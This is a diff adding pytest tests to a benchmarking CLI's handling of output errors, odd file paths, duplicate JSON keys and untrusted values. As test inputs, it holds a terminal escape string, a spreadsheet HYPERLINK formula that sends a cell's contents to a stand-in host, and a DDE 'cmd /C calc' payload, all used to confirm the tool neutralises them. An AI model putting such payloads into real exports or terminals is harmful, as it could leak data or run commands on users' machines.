@@ -65,3 +65,152 @@ def test_7_run_plan_refuses_two_experiments_writing_one_file(dlbs_cli, tmp_path,
         result = dlbs_cli("run", "--plan", "plan.json", *extra, cwd=tmp_path)
         assert_one_error_line(result, fragment)
     assert not (tmp_path / "logs").exists()
+
+
+# -- 7: outputs ------------------------------------------------------------------------------
+LOG = ('__exp.id__="a"\n__exp.framework__="dummy"\n__exp.model__="m"\n__exp.replica_batch__=1\n'
+       '__results.status__="ok"\n__results.time__=1.0\n__results.throughput__=2.0\n')
+
+
+def _full(tmp_path: Path, *argv: str, stderr_too: bool = False):
+    import subprocess
+    import sys
+
+    from tests.conftest import REPO
+
+    with open("/dev/full", "w") as full:
+        return subprocess.run([sys.executable, "-m", "dlbs.cli.main", *argv], cwd=tmp_path,
+                              stdout=full, stderr=full if stderr_too else subprocess.PIPE,
+                              text=True, timeout=300, env={"PYTHONPATH": str(REPO),
+                                                           "PATH": "/usr/bin:/bin"})
+
+
+@pytest.mark.parametrize("argv", [
+    ["plan", *DUMMY], ["plan", *DUMMY, "--format", "table"], ["validate", *DUMMY],
+    ["print-config", *DUMMY], ["help", "--params", "exp.model"], ["list", "frameworks"],
+    ["list", "targets"], ["parse", "a.log"], ["report", "a.log"],
+    ["report", "a.log", "--format", "csv"], ["report", "a.log", "--format", "json"],
+    ["report", "a.log", "--format", "html"], ["compare", "a.log", "a.log"],
+    ["run", *DUMMY, "--dry-run"], ["run", *DUMMY, "--dry-run", "--format", "json"],
+    ["--help"], ["--version"], ["plan", "--help"], ["report", "--help"],
+])
+def test_7_writing_to_a_full_disk_is_one_error_line(tmp_path, argv):
+    (tmp_path / "a.log").write_text(LOG)
+    result = _full(tmp_path, *argv)
+    assert result.returncode == 2, result.stderr
+    assert result.stderr == "dlbs: error: cannot write the output: No space left on device\n"
+
+
+def test_7_a_full_standard_error_too_ends_quietly_with_an_error_status(tmp_path):
+    result = _full(tmp_path, "plan", "-P", "exp.log_dir=", stderr_too=True)
+    assert result.returncode == 2
+
+
+@pytest.mark.parametrize("database, kind", [
+    ("/dev/null", "a device"), ("/dev/zero", "a device"), ("folder", "a folder"),
+    ("fifo", "a FIFO")])
+def test_7_a_results_database_that_is_no_file_leaves_no_lock_beside_it(dlbs_cli, tmp_path,
+                                                                        database, kind):
+    import os
+
+    (tmp_path / "folder").mkdir()
+    os.mkfifo(tmp_path / "fifo")
+    before = set(os.listdir("/dev"))
+    result = dlbs_cli("run", *DUMMY, "-P", f"runtime.results_db={database}", cwd=tmp_path)
+    assert_one_error_line(result, f"results database {database} is {kind}, not a regular file")
+    assert set(os.listdir("/dev")) == before
+    assert not [name for name in os.listdir(tmp_path) if name.endswith(".lock")]
+
+
+ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[31m\r\u202e\x9b"
+
+
+def test_7_escapes_in_values_never_reach_the_terminal_raw_in_run(dlbs_cli, tmp_path):
+    escapes = ESCAPES.replace("\r", "")  # a carriage return may not go into a log's name
+    result = dlbs_cli("run", *DUMMY[:-2], "-V", "exp.replica_batch=[1]",
+                      "-P", f"exp.model=resnet18{escapes}", "--progress", "lines", cwd=tmp_path)
+    assert result.returncode == 0, result.stderr
+    text = result.stdout + result.stderr
+    assert not any(character in text for character in "\x1b\x07\r\u202e\x9b"), text
+    assert "\\x1b]0;owned\\x07" in text
+    dry = dlbs_cli("run", *DUMMY[:-2], "-V", "exp.replica_batch=[1]",
+                   "-P", f"exp.model=resnet18{escapes}", "--dry-run", cwd=tmp_path)
+    assert "\x1b" not in dry.stdout + dry.stderr and "\\x1b[31m" in dry.stdout
+
+
+def test_7_escapes_in_values_never_reach_the_terminal_raw_in_reports(dlbs_cli, tmp_path):
+    log = tmp_path / "a.log"
+    log.write_text(LOG.replace('"m"', json.dumps(f"m{ESCAPES}")) +
+                   f'__exp.note__={json.dumps(ESCAPES)}\n')
+    for argv in (["report", "a.log"], ["report", "a.log", "--format", "markdown"],
+                 ["report", "a.log", "--by", "exp.model"], ["compare", "a.log", "a.log"],
+                 ["plan", "-P", f"exp.model={ESCAPES}", "--format", "table"],
+                 ["validate", "-P", f"exp.model={ESCAPES}", "-P", "exp.log_dir="],
+                 ["report", f"{ESCAPES}.log"]):
+        result = dlbs_cli(*argv, cwd=tmp_path)
+        text = result.stdout + result.stderr
+        assert not any(character in text for character in "\x1b\x07\u202e\x9b"), (argv, text)
+    # Machine formats keep the value exactly.
+    parsed = json.loads(dlbs_cli("parse", "a.log", cwd=tmp_path).stdout)
+    assert parsed["experiments"][0]["exp.model"] == f"m{ESCAPES}"
+
+
+def test_7_csv_text_cells_never_run_as_formulas(dlbs_cli, tmp_path):
+    import csv
+    import io
+
+    values = {"exp.model": "=HYPERLINK(\"http://x/?\"&A1)", "exp.a": "+1+cmd|' /C calc'!A0",
+              "exp.b": "-2+3", "exp.c": "@SUM(A1)", "exp.d": "\t=1", "exp.e": "-1.5",
+              "exp.f": "+3", "exp.g": "plain", "exp.h": -4, "exp.i": "-"}
+    (tmp_path / "a.log").write_text(LOG.replace('__exp.model__="m"\n', "") + "".join(
+        f"__{key}__={json.dumps(value)}\n" for key, value in values.items()))
+    for argv in (["parse", "a.log", "-o", "out.csv"], ["report", "a.log", "--format", "csv",
+                                                        "--by", ",".join(values)]):
+        result = dlbs_cli(*argv, cwd=tmp_path)
+        assert result.returncode == 0, result.stderr
+        text = (tmp_path / "out.csv").read_text() if "-o" in argv else result.stdout
+        row = dict(zip(*csv.reader(io.StringIO(text))))
+        row.setdefault("exp.model", row.get("model"))  # a report's name of the column
+        for key in ("exp.model", "exp.a", "exp.b", "exp.c", "exp.d"):
+            assert row[key] == "'" + values[key], (argv, key, row[key])
+        assert (row["exp.e"], row["exp.f"], row["exp.g"], row["exp.h"]) == \
+            ("-1.5", "+3", "plain", "-4")
+    plan = dlbs_cli("plan", "-P", "exp.model==1+1", "-P", "exp.framework=dummy", "--format",
+                    "csv", "--keys", "exp.model,exp.replica_batch", cwd=tmp_path)
+    assert plan.stdout.splitlines()[1] == "'=1+1,16", plan.stdout
+
+
+@pytest.mark.parametrize("where, argv", [
+    ("spec", ["-c", "s.json"]), ("-P", ["-P", 'exp.model={"a": 1, "a": 2}']),
+    ("-E", ["-E", '{"condition": {"a": "1", "a": "2"}, "parameters": {}}']),
+    ("nested", ["-c", "nested.json"]),
+])
+def test_7_json_specs_refuse_a_key_twice(dlbs_cli, tmp_path, where, argv):
+    (tmp_path / "s.json").write_text('{"parameters": {"exp.model": "a", "exp.model": "b"}}')
+    (tmp_path / "nested.json").write_text('{"parameters": {"x": {"val": {"k": 1, "k": 2}}}}')
+    assert_one_error_line(dlbs_cli("plan", *argv, cwd=tmp_path), "found duplicate key")
+
+
+@pytest.mark.parametrize("jsonl", [False, True])
+def test_7_plan_files_refuse_a_key_twice(dlbs_cli, tmp_path, jsonl):
+    plan = _plan(dlbs_cli, tmp_path)
+    texts = [json.dumps(experiment) for experiment in plan]
+    texts[1] = texts[1].replace('"exp.model":', '"exp.model": "vgg16", "exp.model":', 1)
+    (tmp_path / "plan.json").write_text("\n".join(texts) if jsonl else
+                                        "[" + ",".join(texts) + "]")
+    result = dlbs_cli("run", "--plan", "plan.json", "--dry-run", cwd=tmp_path)
+    assert_one_error_line(result, 'found duplicate key "exp.model"')
+
+
+@pytest.mark.parametrize("params, blamed", [
+    (["-P", "exp.model=a\nb"], "parameter 'exp.model': value 'a\\nb' holds a line break"),
+    (["-P", "exp.data_dir=/data/O'Brien"],
+     "parameter 'exp.data_dir': value \"/data/O'Brien\" holds a quote"),
+    (["-V", "exp.model=[\"a'b\"]"], "parameter 'exp.model': value \"a'b\" holds a quote"),
+    (["-P", "exp.data_dir=/d\\"], "parameter 'exp.data_dir': value '/d\\\\' holds a backslash"),
+])
+def test_7_an_odd_value_is_blamed_not_the_default_config(dlbs_cli, tmp_path, params, blamed):
+    result = dlbs_cli("plan", "-P", "exp.framework=pytorch", "-P", "exp.trace_level=step",
+                      *params, cwd=tmp_path)
+    assert_one_error_line(result, blamed)
+    assert "configs/" not in result.stderr
